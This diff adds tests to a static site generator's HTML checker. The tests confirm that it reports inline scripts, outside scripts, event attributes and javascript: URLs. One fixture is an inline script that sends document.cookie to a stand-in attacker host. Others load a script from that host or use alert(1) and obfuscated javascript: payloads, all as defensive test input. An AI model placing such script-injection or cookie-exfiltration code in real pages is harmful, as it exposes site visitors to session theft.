@@ -425,3 +425,60 @@ def test_front_matter_problems_in_the_sources_fail_the_check(tmp_path):
     problems = check_site(root).problems
     assert [p.path.as_posix() for p in problems] == ["content/law/untitled.md"]
     assert "title" in problems[0].message
+
+
+def test_an_inline_script_is_reported(tmp_path):
+    body = (
+        "<p>正文</p>\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n"
+        '<script type="application/ld+json">{"@type": "NewsArticle"}</script>'  # data: not run
+    )
+    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
+        "public/404.html:11: error: inline <script>, which sitegen's layouts never write: "
+        "remove it from the layout or article with it"
+    ]
+
+
+def test_a_script_from_outside_static_js_is_reported(tmp_path):
+    body = '<script src="https://evil.example/x.js"></script>'
+    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
+        "public/404.html:10: error: <script> from https://evil.example/x.js, outside static/js/, "
+        "which sitegen's layouts never write: remove it from the layout or article with it"
+    ]
+
+
+def test_only_scripts_from_static_js_pass_as_the_layouts_load_them(tmp_path):
+    body = '<script src="/static/js/print.js" defer></script>\n<script src="/static/x.js"></script>'
+    files = {"public/static/js/print.js": "", "public/static/x.js": ""}
+    assert checked(tmp_path, {"public/404.html": page("404", body), **files}) == [
+        "public/404.html:11: error: <script> from /static/x.js, outside static/js/, "
+        "which sitegen's layouts never write: remove it from the layout or article with it"
+    ]
+
+
+def test_event_attributes_are_reported_with_their_element(tmp_path):
+    body = '<img src="/static/logo.png" alt="" onerror="alert(1)">\n<p ONCLICK="x()">段</p>'
+    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
+        "public/404.html:10: error: event attribute onerror= on <img>, which sitegen's layouts "
+        "never write: remove it from the layout or article with it",
+        "public/404.html:11: error: event attribute onclick= on <p>, which sitegen's layouts "
+        "never write: remove it from the layout or article with it",
+    ]
+
+
+def test_javascript_urls_in_any_url_attribute_are_reported(tmp_path):
+    body = '<form><button formaction=" java\tscript:alert(1)">送出</button></form>'
+    assert checked(tmp_path, {"public/404.html": page("404", body)}) == [
+        "public/404.html:10: error: javascript: URL: use a real link or a button"
+    ]
+
+
+def test_scripts_and_event_attributes_are_not_reported_where_site_yaml_trusts_the_html(tmp_path):
+    body = '<script>x()</script><img src="/static/logo.png" alt="" onload="y()">'
+    site_yaml = SITE_YAML.format(base_url="https://news.example.org/")
+    found = {}
+    for html in ("safe", "trusted"):
+        write_site(tmp_path, clean_site())
+        write_site(tmp_path, {"site.yaml": f"{site_yaml}html: {html}\n",
+                              "public/404.html": page("404", body)})  # fmt: skip
+        found[html] = len(check_site(tmp_path, sources=False).problems)
+    assert found == {"safe": 2, "trusted": 0}
